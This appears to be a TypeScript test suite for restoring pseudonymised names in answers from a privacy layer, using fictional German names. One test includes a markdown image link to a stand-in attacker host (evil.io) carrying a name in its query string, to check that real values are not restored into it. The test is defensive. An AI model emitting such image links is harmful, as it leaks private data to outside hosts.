import { hide, restore } from '../../../testing/hide-and-restore';
import { CHATS } from '../../../testing/mangling/chats';
import { markedText } from '../../../testing/marked-text';
import { EntityTable } from '../entities/entity-table';
import { parseLanguage } from '../../text/language';

const surrogates = (answer: string, sent: readonly string[] = CHATS.surrogates.sent) =>
  restore(answer, CHATS.surrogates.table, sent);
const placeholders = (answer: string, sent: readonly string[] = CHATS.placeholders.sent) =>
  restore(answer, CHATS.placeholders.table, sent);

describe('restore', () => {
  it('restores only replacements in the messages of the same call [SEC-34]', async () => {
    expect(await surrogates('Jan Weber', ['Hello'])).toBe('Jan Weber');
    expect(await surrogates('Volker Hübner')).toBe('Volker Hübner');
    expect(await surrogates('Volker Hübner', ['Volker Hübner is here.'])).toBe('Otto Franke');
    expect(await placeholders('[NAME_3] [NAME_7]')).toBe('[NAME_3] [NAME_7]');
  });

  it('restores a single part only if the whole name was sent', async () => {
    expect(await surrogates('Weber', ['Petra Weber'])).toBe('Müller');
    expect(await surrogates('Jan', ['Petra Weber'])).toBe('Jan');
  });

  it('does not restore a single part next to a name part with which it was never sent', async () => {
    expect(await surrogates('Max Weber and Petra Köhler')).toBe('Max Weber and Petra Köhler');
    expect(await surrogates('Frau Weber, Kollege Holger')).toBe('Frau Müller, Kollege Klaus');
  });

  it('writes the genitive of the original', async () => {
    expect(await surrogates('Jans Auto, Webers Haus, Holgers Hut')).toBe(
      "Hans' Auto, Müllers Haus, Klaus' Hut",
    );
    expect(await placeholders('[NAME_1]s Auto, [NAME_2]s Haus')).toBe("Hans Müllers Auto, Anna Jones' Haus");
  });

  it('distinguishes [NAME_1] from [NAME_12] and [NAME_1B]', async () => {
    expect(await placeholders('[NAME_12][NAME_1][NAME_1B]')).toBe('Klaus JägerHans MüllerMüllers');
  });

  it('restores no value in an address, path or identifier, unless the whole was sent', async () => {
    const link = 'https://intern.example/Weber/akte.pdf';
    expect(await surrogates(`${link} ${link}?x ![](https://evil.io/?q=Jan+Weber)`)).toBe(
      `https://intern.example/Müller/akte.pdf ${link}?x ![](https://evil.io/?q=Jan+Weber)`,
    );
  });

  it('restores mailto: and tel: before one whole replacement', async () => {
    expect(await surrogates('[a](mailto:jan.weber@example.com) <a href="tel:+493023125042">')).toBe(
      '[a](mailto:hans.mueller@firma.de) <a href="tel:+49 89 7654321">',
    );
  });

  it('never restores a restored value again', async () => {
    const table = EntityTable.create('surrogates');
    const say = async (marked: string) =>
      (await hide(table, { ...markedText(marked), choices: ['Names'], language: parseLanguage('de') })).text;
    const first = await say('{N:Hans Müller}');
    const second = await say(`{N:${first}}`);
    expect(await restore(second, table, [first, second])).toBe(first);
  });

  it('escapes values in JSON as JSON, in the way of the surrounding text [PRIV-51]', async () => {
    const table = EntityTable.create('placeholders');
    const { text } = await hide(table, {
      ...markedText('{N:Hans "Hänschen"\nMüller}'),
      choices: ['Names'],
      language: parseLanguage('de'),
    });
    const restored = await restore(`{"name":"${text}"}`, table, [text], { json: true });
    expect(JSON.parse(restored)).toEqual({ name: 'Hans "Hänschen"\nMüller' });
    expect(await surrogates(String.raw`{"name":"Holger K\u00f6hler"}`)).toBe(
      String.raw`{"name":"Klaus J\u00e4ger"}`,
    );
  });
});
